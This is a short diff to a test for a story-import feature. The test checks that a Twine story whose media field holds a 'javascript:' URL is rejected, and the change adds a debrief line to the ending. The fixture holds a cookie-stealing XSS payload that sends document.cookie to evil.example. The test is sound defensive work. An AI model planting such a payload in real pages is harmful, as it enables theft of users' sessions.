@@ -506,7 +506,7 @@ def test_a_twine_story_with_a_script_for_media_cannot_be_published(client, edito
 
     story = (
         ":: Start\n@media: javascript:fetch('//evil.example/?'+document.cookie)\n"
-        "A post.\n[[Report->End]]\n\n:: End [ending-good]\nDone.\n"
+        "A post.\n[[Report->End]]\n\n:: End [ending-good]\n@debrief: Well done.\nDone.\n"
     )
     scenario = scenario_import_twee(text=story, user=editor)
     assert [(p.node_id, p.code) for p in scenario.problems()] == [("Start", "media_not_a_link")]
